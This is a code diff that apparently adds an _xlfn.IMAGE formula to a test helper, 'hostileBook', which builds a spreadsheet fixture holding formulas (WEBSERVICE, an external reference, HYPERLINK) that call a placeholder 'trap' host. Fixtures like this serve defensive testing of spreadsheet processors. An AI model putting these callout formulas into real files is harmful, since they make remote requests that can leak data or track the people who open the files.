@@ -78,7 +78,7 @@ export const hostileBook = (trap: string): Buffer =>
       before
         .replace(
           '</row>',
-          `<c r="C1"><f>WEBSERVICE("${trap}/service")</f><v>0</v></c><c r="D1"><f>[1]!A1</f><v>0</v></c><c r="E1"><f>HYPERLINK("${hacked}","x")</f><v>0</v></c></row>`,
+          `<c r="C1"><f>WEBSERVICE("${trap}/service")</f><v>0</v></c><c r="D1"><f>[1]!A1</f><v>0</v></c><c r="E1"><f>HYPERLINK("${hacked}","x")</f><v>0</v></c><c r="F1"><f>_xlfn.IMAGE("${trap}/formula")</f><v>0</v></c></row>`,
         )
         .replace(
           '</worksheet>',
